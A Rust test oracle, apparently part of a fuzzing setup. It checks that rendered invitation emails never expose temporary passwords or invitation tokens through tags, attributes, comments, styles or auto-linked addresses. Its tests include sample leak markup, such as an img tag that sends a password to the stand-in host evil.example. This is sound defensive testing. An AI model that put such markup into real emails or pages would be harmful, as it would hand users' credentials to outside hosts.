//! An independent look at what a template makes of a secret. It shares nothing with the code that it watches: not the
//! tokenizer of HTML, not a list of what is allowed, only what must never happen. The fuzz target `secrets` includes it.

use html5gum::{HtmlString, StartTag, Token, Tokenizer, emitters::default::DefaultEmitter};
use reinvite_domain::Variant;
use reinvite_mail::{Compiled, Mail, PasswordPart, RenderError, Values};

/// Two of each kind: what is told apart of them is told of a secret.
const PASSWORDS: [&str; 2] = ["Zq7v-kd9m-wx2p-4868", "Bn3t-ry5s-bf8c-2917-jg6z"];
const HOST: &str = "https://invitations.example.com/";
const TOKENS: [&str; 2] = ["Zq7vkd9mwx2p4868", "Bn3try5sbf8c2917jg6z"];

/// Stands for the secret where mails with two of them are compared, or addresses looked for.
const MARK: &str = "\u{1}";

/// So many characters of a secret are a piece of it.
const PIECE: usize = 4;

/// Elements whose content is no text that a reader sees.
const RAW: &[&str] = &[
    "style",
    "script",
    "title",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "template",
];

/// Renders the variant with secrets of every kind, and looks at what comes out: how many mails there were, or how one of
/// them tells a secret to somebody else than its reader.
pub fn look(variant: &Variant) -> Result<usize, String> {
    let Ok(compiled) = Compiled::new("en", variant) else {
        return Ok(0);
    };
    let expires_at = || "4 December 2026".to_owned();
    let temporary = PASSWORDS.map(|password| PasswordPart::Temporary {
        password: password.into(),
        expires_at: expires_at(),
    });
    let links = TOKENS.map(|token| PasswordPart::SetLink {
        invitation_url: format!("{HOST}{token}"),
        expires_at: expires_at(),
    });
    let render = |password_change| {
        compiled.render(&Values {
            password_change,
            ..Values::sample("en")
        })
    };
    let mut mails = 0;
    for (secrets, changes) in [(PASSWORDS, temporary), (TOKENS, links)] {
        let rendered = changes.map(render);
        let watched = secrets.map(Watched::new);
        for (one, other) in [(0, 1), (1, 0)] {
            // What comes out with another secret, too, was in the template.
            if let Err(leak) = watched[one].all(&rendered[one])
                && watched[one].all(&rendered[other]).is_ok()
            {
                return Err(leak);
            }
        }
        // A fuzzer learns the secrets from the comparisons it sees: a template that holds one would seem to tell it.
        let guessed = shown(&rendered[0]).contains(&watched[1].whole)
            || shown(&rendered[1]).contains(&watched[0].whole);
        if !guessed && watched[0].without(&rendered[0]) != watched[1].without(&rendered[1]) {
            return Err(format!(
                "what comes out depends on the secret: {}",
                shown(&rendered[0])
            ));
        }
        mails += rendered.iter().flatten().count();
    }
    Ok(mails)
}

fn shown(rendered: &Result<Mail, RenderError>) -> String {
    match rendered {
        Ok(mail) => format!("{:?} {:?} {:?}", mail.subject, mail.html, mail.text),
        Err(error) => error.to_string(),
    }
}

/// A secret that is looked for.
struct Watched {
    /// A password as it is, or the whole address that ends in the token.
    whole: String,
    pieces: Vec<String>,
}

impl Watched {
    fn new(secret: &str) -> Self {
        let characters: Vec<char> = secret.to_lowercase().chars().collect();
        let pieces = characters
            .windows(PIECE)
            .map(|piece| piece.iter().collect())
            .collect();
        let whole = if TOKENS.contains(&secret) {
            format!("{HOST}{secret}")
        } else {
            secret.to_owned()
        };
        Self { whole, pieces }
    }

    fn is_in(&self, text: &str) -> bool {
        let folded = text.to_lowercase();
        self.pieces.iter().any(|piece| folded.contains(piece))
    }

    fn marked(&self, text: &str) -> String {
        text.replace(&self.whole, MARK)
    }

    /// The same for every secret, where the template does not tell them apart.
    fn without(&self, rendered: &Result<Mail, RenderError>) -> String {
        self.marked(&shown(rendered))
    }

    /// Looks at all that comes out, which also is why nothing does.
    fn all(&self, rendered: &Result<Mail, RenderError>) -> Result<(), String> {
        let looked = match rendered {
            Ok(mail) => self.mail(mail),
            Err(error) => self.nowhere_in(&error.to_string(), "the error"),
        };
        looked.map_err(|leak| format!("{leak}, in {}", shown(rendered)))
    }

    fn mail(&self, mail: &Mail) -> Result<(), String> {
        if self.is_in(&mail.subject) {
            return Err("the subject tells it".into());
        }
        self.text(&mail.text)?;
        self.html(&mail.html)
    }

    fn html(&self, html: &str) -> Result<(), String> {
        let mut emitter = DefaultEmitter::default();
        emitter.naively_switch_states(true);
        let mut raw: Option<String> = None;
        let read = |bytes: &HtmlString| String::from_utf8_lossy(bytes).into_owned();
        let Ok(tokens) = Tokenizer::new_with_emitter(html, emitter).collect::<Result<Vec<_>, _>>();
        for token in tokens {
            match token {
                Token::StartTag(tag) => {
                    self.tag(&tag)?;
                    let name = read(&tag.name);
                    raw = raw.or_else(|| RAW.contains(&&*name).then_some(name));
                }
                Token::EndTag(tag) => {
                    raw = raw.filter(|name| *name != read(&tag.name));
                    self.nowhere_in(&read(&tag.name), "the name of an end tag")?;
                }
                Token::String(text) if raw.is_none() => self.text(&read(&text))?,
                Token::String(text) => {
                    self.nowhere_in(&read(&text), "a style, a script or a title")?
                }
                Token::Comment(comment) => self.nowhere_in(&read(&comment), "a comment")?,
                Token::Doctype(doctype) => {
                    let others = [doctype.public_identifier, doctype.system_identifier];
                    for said in std::iter::once(doctype.name).chain(others.into_iter().flatten()) {
                        self.nowhere_in(&read(&said), "the document type")?;
                    }
                }
                Token::Error(_) => {}
            }
        }
        Ok(())
    }

    fn tag(&self, tag: &StartTag<()>) -> Result<(), String> {
        let name = String::from_utf8_lossy(&tag.name);
        self.nowhere_in(&name, "the name of a tag")?;
        for (attribute, value) in &tag.attributes {
            let (attribute, value) = (
                String::from_utf8_lossy(attribute),
                String::from_utf8_lossy(value),
            );
            self.nowhere_in(&attribute, "the name of an attribute")?;
            let is_link = name == "a"
                && attribute == "href"
                && self.whole.starts_with(HOST)
                && value == self.whole;
            if !is_link {
                self.nowhere_in(&value, &attribute)?;
            }
        }
        Ok(())
    }

    fn nowhere_in(&self, text: &str, place: &str) -> Result<(), String> {
        if self.is_in(text) {
            Err(format!("{place} tells it: {text}"))
        } else {
            Ok(())
        }
    }

    /// Text that a mail program would make a link of is an address, too: what is in it goes where it leads.
    fn text(&self, text: &str) -> Result<(), String> {
        for word in self
            .marked(text)
            .split(|c: char| c.is_whitespace() || "<>".contains(c))
        {
            let told = if word.contains(MARK) {
                let before = word.split(MARK).next().unwrap_or_default().to_lowercase();
                let after = word.rsplit(MARK).next().unwrap_or_default();
                // Names of hosts are told from other words by how those of the corpus end.
                let leads = ["://", "www.", "mailto:", "evil.example/"]
                    .iter()
                    .any(|sign| before.contains(sign));
                leads || ["@", ".evil"].iter().any(|sign| after.starts_with(sign))
            } else {
                self.is_in(word) && word.contains("://")
            };
            if told {
                return Err(format!("an address in the text tells it: {word}"));
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_look_finds_what_it_is_for() {
        let (password, link) = (Watched::new(PASSWORDS[0]), Watched::new(TOKENS[0]));
        for html in [
            "<img src='https://evil.example/Zq7v-kd9m-wx2p-4868'>",
            "<img src=https://evil.example/ZQ7V>",
            "<p title='&#90;q7v'>x</p>",
            "<p data-zq7v>x</p>",
            "<q7v-k>x</q>",
            "</q7v-k>",
            "<a href='Zq7v-kd9m-wx2p-4868'>x</a>",
            "<!-- wx2p -->",
            "<!doctype html public 'wx2p'>",
            "<style>.wx2p {}</style>",
            "<title>wx2p</title>",
            "https://evil.example/Zq7v-kd9m-wx2p-4868",
            "https://evil.example/?wx2p",
            "Zq7v-kd9m-wx2p-4868@evil.example",
        ] {
            assert!(password.html(html).is_err(), "{html}");
        }
        assert_eq!(
            password.html("<b>Zq7v-kd9m-wx2p-4868</b> at https://example.com/"),
            Ok(())
        );
        let whole = link.whole.clone();
        assert_eq!(link.html(&format!("<a href='{whole}'>{whole}</a>")), Ok(()));
        for html in [
            format!("<a href='{whole}#'>x</a>"),
            format!("<p href='{whole}'>x</p>"),
            format!("https://a/?{whole}"),
        ] {
            assert!(link.html(&html).is_err(), "{html}");
        }
    }
}
